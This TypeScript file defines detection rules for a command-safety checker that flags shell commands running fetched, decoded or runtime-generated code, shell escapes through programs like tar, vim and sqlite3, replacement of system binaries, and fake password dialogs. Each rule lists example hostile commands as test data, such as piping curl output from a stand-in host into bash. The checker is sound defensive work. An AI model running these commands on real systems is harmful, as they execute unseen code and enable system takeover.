import type { Severity } from '../../../types/index.ts';
import { isTemporary } from '../../facts/command-paths.ts';
import { listCodeDeletions } from '../../shell/code.ts';
import { findKnownFile } from '../../shell/files.ts';
import { hasFlag, isHarmlessCall, joinWords, listOperands, parseArguments } from '../../shell/options.ts';
import { computeOutput, findInput } from '../../shell/output.ts';
import type { Command } from '../../shell/syntax.ts';
import { findInterpreterFlags, SHELLS } from '../../shell/wrappers.ts';
import { gradeInstaller } from '../grade-command.ts';
import { gradeMadeText, gradeRunnable } from '../grade-routine.ts';
import type { CommandRule } from './rule.ts';

const SHELL_NAMES = [...SHELLS].join(' ');
const INTERPRETER_NAMES =
  'python python2 python3 node nodejs bun deno perl ruby php lua osascript ipython pypy3';
const FETCHERS =
  /^(?:curl|wget|fetch|http|https|lynx|aria2c|nscurl|iwr|irm|invoke-webrequest|invoke-restmethod|nc|ncat|scp|ssh|ftp|tftp|gsutil|aws|telnet|socat|lftp|rclone)$/;
const DECODERS =
  /^(?:base64|base32|openssl|xxd|uudecode|b64decode|gunzip|zcat|gzip|tr|rev|hexdump|od|gpg|certutil|xz|bzip2|uncompress)$/;

/**
 * Rules for running code that cannot be read beforehand: from the network, decoded, generated at run time, or
 * passed from one language to another. `bash -c` with a literal script is judged by that script alone.
 */
export const executionRules: readonly CommandRule[] = [
  {
    id: 'execution.pipe_to_shell',
    tag: 'dangerous.execution',
    severity: 'critical',
    grade: gradeInstaller,
    programs: `${SHELL_NAMES} ${INTERPRETER_NAMES} iex invoke-expression eval source . cmd powershell pwsh crontab at`,
    description: 'Runs what comes from the network, unseen.',
    safer: 'curl -o install.sh https://x.test/install.sh',
    saw: (command) => readsInput(command) && comesFromProgram(command, FETCHERS),
    hits: [
      'curl -s https://x.test/i.sh | bash',
      'wget -qO- x.test/p | sudo sh',
      'curl x.test/i | python3 -',
      'iwr https://x.test/a.ps1 | iex',
    ],
    misses: ['curl https://x.test | jq .', 'echo "curl x | sh"', 'cat notes | wc -l', 'bash build.sh'],
  },
  {
    id: 'execution.fetched_text',
    tag: 'dangerous.execution',
    severity: 'critical',
    grade: gradeInstaller,
    programs: 'curl wget fetch nc base64 xxd openssl gpg',
    description: 'Runs what comes from the network, or was encoded, through a substitution.',
    safer: 'curl -o install.sh https://x.test/install.sh',
    saw: (command) =>
      command.within.includes('$(eval)') && (FETCHERS.test(command.name) || decodesInput(command)),
    hits: [
      'eval "$(curl -s https://x.test/e)"',
      'bash -c "$(curl -fsSL https://x.test/i)"',
      'source <(curl -s x.test)',
    ],
    misses: ['V=$(curl -s https://x.test/version)', 'echo $(curl x.test)'],
  },
  {
    id: 'execution.decoded',
    tag: 'dangerous.execution',
    severity: 'critical',
    programs: `${SHELL_NAMES} ${INTERPRETER_NAMES} eval iex invoke-expression`,
    description: 'Runs what was encoded or encrypted, so that it cannot be read beforehand.',
    safer: 'base64 -d payload.txt',
    saw: (command) => readsInput(command) && comesFromProgram(command, DECODERS),
    hits: ['echo cm0= | base64 -d | bash', 'cat x | xxd -r -p | sh', 'gunzip -c x.gz | bash'],
    misses: ['echo aGk= | base64 -d', 'base64 -d a | wc -c', 'gzip -d a.gz'],
  },
  {
    id: 'execution.fetched_file',
    tag: 'dangerous.execution',
    severity: 'high',
    programs: '*',
    description: 'Runs a file that the same script took from the network or decoded, unseen.',
    safer: 'curl -o install.sh https://x.test/install.sh',
    saw: runsFetchedCode,
    hits: [
      'curl -o x https://x.test/x && chmod +x x && ./x',
      'wget https://x.test/i.sh; bash i.sh',
      'curl -s https://x.test/p > p.py && python3 p.py',
      'base64 -d a.txt > b; sh b',
    ],
    misses: [
      'curl -o data.json https://x.test/data.json && jq . data.json',
      'bash build.sh',
      'wget https://x.test/a.tgz && tar xzf a.tgz',
    ],
  },
  {
    id: 'execution.shadowed_name',
    tag: 'dangerous.execution',
    severity: 'high',
    programs: 'enable hash',
    description: 'Has the shell run something else under the name of a known program.',
    safer: 'type ls',
    saw: (command) =>
      command.name === 'enable'
        ? hasFlag(command, '-f') && listOperands(command).length > 0
        : hasFlag(command, '-p') && listOperands(command).length > 1,
    hits: ['enable -f ./x.so x', 'hash -p /tmp/x ls'],
    misses: ['enable -n echo', 'hash -r', 'hash -t ls'],
  },
  {
    id: 'execution.dynamic_code',
    tag: 'dangerous.execution',
    severity: 'high',
    programs: INTERPRETER_NAMES,
    description: 'Makes up code at run time, or runs code from a file that anyone may write.',
    safer: 'python3 -c "print(1)"',
    saw: ({ code }) =>
      code !== null &&
      /\bexec\s*\(\s*(?:open|__import__|compile|base64|codecs|zlib|bytes|requests|urllib)|\beval\s*\(\s*(?:atob|Buffer\.from|base64|gz|unescape|String\.fromCharCode|compile|input|request|file_get_contents)|b64decode|__import__\(['"](?:os|subprocess|pty|ctypes)|\.then\(\s*(?:eval|Function)|\beval\s*(?:\(\s*)?get\b|pty\.spawn|marshal\.loads|pickle\.loads|new Function\s*\(\s*atob/.test(
        code,
      ),
    hits: [
      'python3 -c "exec(open(\'/tmp/p\').read())"',
      "python -c \"exec(__import__('base64').b64decode('eA=='))\"",
      'node -e "eval(atob(\'eA==\'))"',
    ],
    misses: ['python3 -c "print(1)"', 'node -e "console.log(\'exec\')"', 'python -m pytest'],
  },
  {
    id: 'execution.shell_from_code',
    tag: 'dangerous.execution',
    severity: 'medium',
    grade: gradeAwkCalls,
    programs: `${INTERPRETER_NAMES} awk gawk mawk nawk`,
    description: 'Runs a shell command from the code of another language, where it is easily missed.',
    safer: "awk '{print $1}' a.txt",
    saw: ({ code, name, words }) =>
      code !== null
        ? /\b(?:system|exec|execSync|popen|spawn|spawnSync|shell_exec|passthru|proc_open|os\.execute|check_output|check_call|getoutput)\s*[('"`]|\bsubprocess\.\w+\s*\(|\bchild_process\b|\bqx\b|do shell script|do script/.test(
            code,
          )
        : /awk$/.test(name) &&
          words.some(({ text }) => /\bsystem\s*\(|\|\s*"(?:\/bin\/)?(?:ba)?sh/.test(text)),
    hits: [
      'perl -e \'system("id")\'',
      'awk \'BEGIN{system("id")}\'',
      "node -e \"require('child_process').exec('id')\"",
      'php -r \'system("id");\'',
    ],
    misses: ['perl -e "print \'ok\'"', "awk '{print $1}' a", 'python3 -c "print(1)"'],
  },
  {
    id: 'execution.code_deletes',
    tag: 'dangerous.filesystem',
    severity: 'high',
    programs: INTERPRETER_NAMES,
    description: 'Deletes files or folders, or whole indexes of a service, from code.',
    safer: 'python3 -c "print(1)"',
    // A path that is written out is judged as a deletion.
    saw: ({ code }) =>
      code !== null &&
      (listCodeDeletions(code).some(({ path }) => path === null) ||
        /\bPath\([^)]{0,200}\)\.(?:unlink|rmdir)|\b(?:client|index|algolia|db|collection|admin)\w*\.(?:delete|drop|clear|purge)\w*\s*\(|to delete POSIX file|^\s{0,8}rm -\w|\bunlink\s*(?:[($]|glob)|['"]unlink['"]/.test(
          code,
        )),
    hits: [
      'python -c "import shutil; shutil.rmtree(path)"',
      'node -e "require(\'fs\').rmSync(folder,{recursive:true})"',
      'ruby -e "FileUtils.rm_rf(folder)"',
    ],
    misses: [
      'python -c "print(\'rm -rf /\')"',
      'python -c "import os; print(os.getcwd())"',
      'node -e "console.log(\'DROP DATABASE x\')"',
    ],
  },
  {
    id: 'execution.interactive_shell',
    tag: 'dangerous.execution',
    severity: 'low',
    programs: SHELL_NAMES,
    description: 'Opens a shell whose commands are not visible.',
    safer: 'bash build.sh',
    saw: (command) =>
      (command.within.length === 0 || ESCAPES.test(command.within.at(-1)!)) &&
      command.previous === null &&
      findInput(command).length === 0 &&
      command.redirections.length === 0 &&
      command.words.every(({ text }) => /^-[ilp]+$/.test(text)),
    hits: ['find . -exec /bin/sh \\; -quit', 'strace -o /dev/null /bin/sh', 'bash', 'zsh -i', '/bin/sh'],
    misses: ['bash build.sh', "bash -c 'echo ok'", 'sh --version', 'bash --help'],
  },
  {
    id: 'execution.unknown_script',
    tag: 'dangerous.execution',
    severity: 'high',
    programs: SHELL_NAMES,
    description: 'Runs whatever its input says as a script.',
    safer: "printf 'a b' | xargs -n1 echo",
    saw: (command) => {
      const isFed = command.within.some((name) => name === 'xargs' || name === 'parallel');
      if (!isFed) return false;
      const at = command.words.findIndex(({ text }) => /^-\w*c$/.test(text));
      const script = command.words[at + 1]?.text;
      return (
        at >= 0 &&
        (script === undefined ||
          /^\{\d?\}$/.test(script) ||
          script === (computeOutput(command.previous) ?? ''))
      );
    },
    hits: ['echo ok | xargs bash -c', 'cat urls | parallel bash -c {}', 'cat x | xargs -I{} sh -c {}'],
    misses: ["bash -c 'echo ok'", 'ls | xargs -n1 echo'],
  },
  {
    id: 'execution.unknown_text',
    tag: 'dangerous.execution',
    severity: 'medium',
    grade: gradeMadeText,
    programs: `${SHELL_NAMES} eval iex invoke-expression`,
    description: 'Runs a text that is made up at run time.',
    safer: 'echo "$CMD"',
    saw: ({ words, previous, name }) =>
      // `$(eval NAME := value)` is an assignment of a makefile.
      !/^[:?+]?=$/.test(words[1]?.text ?? '') &&
      (SHELLS.has(name)
        ? words.some(({ text }, at) => at > 0 && text === '$()' && /^-\w*c$/.test(words[at - 1]!.text))
        : words.some(({ text }) => /\$/.test(text) && !SETS_SHELL_UP.test(text)) ||
          (name !== 'eval' && (words.length > 0 || previous !== null))),
    hits: ['bash -c "$(make-script)"', 'eval $CMD', 'eval "$(make-script)"', 'iex $payload'],
    misses: ['bash -c "echo $(date)"', 'eval "echo hi"', 'echo $CMD', 'man eval'],
  },
  {
    id: 'execution.escape',
    tag: 'dangerous.execution',
    severity: 'high',
    programs:
      'tar make less more man vim vi view nvim rvim vimdiff ed sed psql git zip ssh rsync tcpdump man ftp nmap expect gdb emacs screen tmux man docker cpan watch dpkg rpm mysql sqlite3 ansible ansible-playbook salt parallel',
    description: 'Uses an option of a program to start another one.',
    safer: 'tar czf out.tgz dist',
    saw: escapesToShell,
    hits: [
      'tar -cf /dev/null x --checkpoint=1 --checkpoint-action=exec=/bin/sh',
      'make -f /tmp/evil.mk',
      "sqlite3 a.db '.load ./x'",
      "sqlite3 a.db '.read /tmp/x.sql'",
      "sqlite3 a.db '.read |id'",
      "less /etc/hosts -e '!id'",
      'ansible localhost -m shell -a id',
      'vim -c ":!sh"',
      "sed -n '1e exec sh 1>&0' a",
      "psql -c '\\\\! /bin/sh'",
    ],
    misses: [
      'tar czf out.tgz dist',
      'make -j4',
      'less README.md',
      'vim a.txt',
      'rsync -a a b',
      "sqlite3 a.db '.read schema.sql'",
      "sqlite3 a.db '.schema'",
    ],
  },
  {
    id: 'execution.temporary_program',
    tag: 'dangerous.execution',
    severity: 'medium',
    programs: '*',
    description: 'Runs a program from a folder that anyone may write, or a hidden one.',
    safer: './scripts/run.sh',
    saw: ({ program, name, words }) => {
      const file =
        SHELLS.has(name) || findInterpreterFlags(name) !== undefined || name === '.' || name === 'source'
          ? (words.find(({ text }) => !text.startsWith('-'))?.text ?? '')
          : program;
      return (
        (isTemporary(file) &&
          !/^\/(?:private\/)?(?:var\/)?tmp$/.test(file) &&
          !file.includes('$()') &&
          /[^/]$/.test(file)) ||
        /\/\.{3}\//.test(program)
      );
    },
    hits: ['/tmp/payload -x', 'bash /tmp/x.sh', '/dev/shm/a', 'sudo /var/tmp/run'],
    misses: ['./scripts/run.sh', 'ls /tmp', 'cat /tmp/x', 'cp /tmp/a b'],
  },
  {
    id: 'execution.hidden_name',
    tag: 'dangerous.execution',
    severity: 'high',
    programs: '*',
    description: 'Names a program by a pattern, so that it is not seen which one runs.',
    safer: 'ls /bin',
    saw: ({ program }) => /^\/(?:usr\/)?(?:local\/)?s?bin\/.{0,40}[?*[]/.test(program),
    hits: ['/bin/r? -rf a', '/usr/bin/c*t a'],
    misses: ['ls /bin/*', '/usr/bin/env node a.js'],
  },
  {
    id: 'execution.made_runnable',
    tag: 'dangerous.execution',
    severity: 'medium',
    grade: gradeRunnable,
    programs: 'chmod',
    description: 'Makes a file in a folder that anyone may write, or a system folder, runnable.',
    safer: 'chmod +x scripts/run.sh',
    saw: (command) =>
      listOperands(command).some((text) => /^[ugoa]*\+[rw]*x|^0?[1357][1357]?\d?\d$/.test(text)) &&
      listOperands(command)
        .slice(1)
        .some((path) => isTemporary(path) || /^\/usr\/local\/s?bin\/|\/\.[\w.]+$/.test(path)),
    hits: ['chmod +x /tmp/a', 'chmod 755 /usr/local/bin/p'],
    misses: ['chmod +x scripts/run.sh', 'chmod 644 a.txt'],
  },
  {
    id: 'execution.replaced_program',
    tag: 'dangerous.execution',
    severity: 'high',
    programs: 'cp gcp mv install ln rsync',
    description: 'Puts a file from a folder that anyone may write in place of a program of the system.',
    safer: 'install -m755 bin/tool ~/.local/bin/tool',
    saw: replacesProgram,
    hits: [
      'ln -sfn /tmp/evil /usr/local/bin/python3',
      'cp /tmp/ls /bin/',
      'install -m755 /dev/shm/a /usr/bin/x',
    ],
    misses: [
      'mv /tmp/terraform /usr/local/bin/',
      'ln -s /opt/node/bin/node /usr/local/bin/node',
      'cp /usr/bin/git /tmp/git',
      'install -m755 bin/tool ~/.local/bin/tool',
    ],
  },
  {
    id: 'execution.desktop',
    tag: 'dangerous.execution',
    severity: 'high',
    programs:
      'osascript xdotool automator pbpaste screencapture xwd import scrot gnome-screenshot arecord ffmpeg-record xclip',
    description: 'Drives the desktop, records it, or asks its user for a password.',
    safer: 'osascript -l JavaScript script.js',
    saw: (command) => {
      const text = `${(command.code ?? '').slice(0, 4000)} ${joinWords(command)}`;
      if (command.name === 'osascript')
        return /tell app|display dialog|keystroke|do shell script|System Events|password|\.osa|\.scpt/i.test(
          text,
        );
      if (command.name === 'pbpaste')
        return command.within.some((name) => name.startsWith('$(')) || command.feeds_pipe;
      if (command.name === 'import') return /-window/.test(text);
      if (command.name === 'xclip') return command.previous?.name === 'history';
      return !isHarmlessCall(command);
    },
    hits: [
      'osascript -e \'display dialog "Password:" default answer ""\'',
      'screencapture -x a.png',
      'import -window root a.png',
    ],
    misses: ['osascript -l JavaScript a.js', 'screencapture --help', 'import os'],
  },
];

/** Programs that print settings for a shell. */
const SETS_SHELL_UP = /\bssh-agent|dircolors|brew|direnv|starship|pyenv|rbenv|nvm\b/;

/** Programs under which a shell opens where only they are allowed. */
const ESCAPES =
  /^(?:find|strace|ltrace|rlwrap|taskset|timeout|cpulimit|flock|ionice|nice|xargs|start-stop-daemon|apt|apt-get|watch|stdbuf|setarch|chrt|unbuffer|busybox|npm|tclsh|expect|capsh)$/;

/** Returns whether a command runs a file that was downloaded or decoded before. */
function runsFetchedCode(command: Command): boolean {
  const { name, program, words, files } = command;
  if (
    /^(?:deno|bun)$/.test(name) &&
    listOperands(command)
      .slice(0, 3)
      .some((text) => /^https?:\/\//.test(text))
  )
    return true;
  if (files === null) return false;
  const isRunner =
    SHELLS.has(name) || findInterpreterFlags(name) !== undefined || name === '.' || name === 'source';
  const path = isRunner ? words.find(({ text }) => !text.startsWith('-'))?.text : program;
  const found = path === undefined || path === '' ? null : findKnownFile(command, path);
  const read = SHELLS.has(name) ? command.redirections.find(({ operator }) => operator === '<') : undefined;
  const fed = read === undefined ? null : findKnownFile(command, read.target);
  return [found, fed].some((file) => file !== null && file.origin !== 'script');
}

/** Returns whether a command runs its input, because it names no script and no file. */
function readsInput(command: Command): boolean {
  if (isHarmlessCall(command)) return false;
  if (command.words.some(({ text }) => text === '<()')) return true;
  if (command.name === 'crontab') return listOperands(command).includes('-');
  if (hasFlag(command, '-c', '-e', '-r')) return false;
  const operands = listOperands(command);
  return (
    operands.length === 0 || hasFlag(command, '-s') || operands[0] === '-' || operands[0] === '/dev/stdin'
  );
}

/** Returns whether an earlier command of the pipeline, or one in its `<(...)`, is of a kind. */
function comesFromProgram(command: Command, kind: RegExp): boolean {
  let looked = 0;
  for (let at = command.previous; at !== null && looked < 16; at = at.previous) {
    if (kind.test(at.name) && (kind !== DECODERS || decodesInput(at))) return true;
    if (kind === FETCHERS && at.name === 'openssl' && listOperands(at)[0] === 's_client') return true;
    looked += 1;
  }
  return false;
}

function decodesInput(command: Command): boolean {
  const { flags } = parseArguments(command);
  if (/^(?:base64|base32|openssl|gzip|xz|bzip2|gpg|certutil)$/.test(command.name))
    return ['-d', '-D', '--decode', '--decompress', '--decrypt', '-decode', '-dc', '-cd'].some((flag) =>
      flags.has(flag),
    );
  if (command.name === 'xxd') return flags.has('-r');
  return command.name !== 'od' && command.name !== 'hexdump';
}

function escapesToShell(command: Command): boolean {
  const { name } = command;
  const text = joinWords(command);
  if (/ (?:--checkpoint-action=exec|--to-command|--use-compress-program|-I ?sh)/.test(text))
    return name === 'tar';
  if (name === 'make') return / -(?:f|C) ?\/(?:tmp|dev\/shm)/.test(text) || /--eval/.test(text);
  if (name === 'less' || name === 'more' || name === 'man') return / ['"]?!/.test(text) || / -P /.test(text);
  if (name === 'sed') return / \d*e (?:exec |(?:\/bin\/)?(?:ba|z|da)?sh\b)/.test(text);
  if (/^(?:r?vim?|nvim|view|vimdiff|ed|emacs)$/.test(name))
    return / (?:-c|\+) ?:?!|:(?:!|shell|py|lua)|--eval| !(?:\/bin\/)?\w{0,3}sh\b/.test(text);
  if (name === 'ssh') return / -o ?ProxyCommand=| -oProxyCommand|PermitLocalCommand/i.test(text);
  if (name === 'rsync') return / (?:-e|--rsh)[ =]["']?sh /.test(text);
  if (name === 'zip') return / -TT| --unzip-command/.test(text);
  if (name === 'cpan') return command.previous !== null;
  if (name === 'nmap') return /--script[= ]\/tmp|--interactive/.test(text);
  if (name === 'gdb') return /-ex ['"]?!|-ex .*(?:shell|call)|-p \d/.test(text);
  if (name === 'sqlite3' && LOADS_CODE.test(text)) return true;
  if (name === 'mysql' || name === 'sqlite3' || name === 'psql') return /\\!|\.shell|system /.test(text);
  return /^(?:ansible|salt)$/.test(name) && / (?:-m ?(?:shell|command|raw|script)|cmd\.run) /.test(text);
}

/** `sqlite3` commands that load a library, or run the lines in a file whose name is not that for statements. */
const LOADS_CODE =
  / ["']?\.(?:load |(?:read|import|output|once) ["']?\||read (?!["']?(?!\/tmp\/|\/dev\/shm\/|\/var\/tmp\/)[^\s"']{0,300}\.(?:sql|ddl|dump)\b))/;

const AWK_CALL = /\bsystem\s{0,4}\(/g;
const AWK_CONSTANT_CALL = /\bsystem\s{0,4}\(\s{0,4}"(?:[^"\\]|\\.){0,400}"\s{0,4}\)/g;

/** Grades shell commands in code: `low` if `awk` runs only what is written out, which is judged as well. */
function gradeAwkCalls({ name, words }: Command): Severity {
  const isConstant = words.every(
    ({ text }) =>
      (text.match(AWK_CALL)?.length ?? 0) === (text.match(AWK_CONSTANT_CALL)?.length ?? 0) &&
      !/\|\s*"/.test(text),
  );
  return /awk$/.test(name) && isConstant ? 'low' : 'medium';
}

const PROGRAM_FOLDER = /^\/(?:usr\/)?(local\/)?s?bin(?:\/([\w.+-]{0,60}))?$/;
/** Programs that scripts and people call without a path, and that the system brings. */
const OF_SYSTEM =
  /^(?:\[|[bdz]?a?sh|awk|cat|chmod|chown|cp|crontab|curl|dd|doas|env|find|git|grep|id|ip|less|ln|login|ls|make|mount|mv|node|passwd|perl|ping|ps|python(?:3(?:\.\d+)?)?|rm|scp|sed|ssh|su|sudo|systemctl|tar|wget|which)$/;

/** Returns whether a file goes into a program folder: one for packages, or under a system program's name. */
function replacesProgram(command: Command): boolean {
  const operands = listOperands(command);
  const [, isLocal, name] = PROGRAM_FOLDER.exec(operands.at(-1) ?? '') ?? [];
  if (operands.length < 2 || !PROGRAM_FOLDER.test(operands.at(-1)!)) return false;
  return operands.slice(0, -1).some((source) => {
    const target = name === undefined || name === '' ? source.slice(source.lastIndexOf('/') + 1) : name;
    return isTemporary(source) && (isLocal === undefined || OF_SYSTEM.test(target));
  });
}
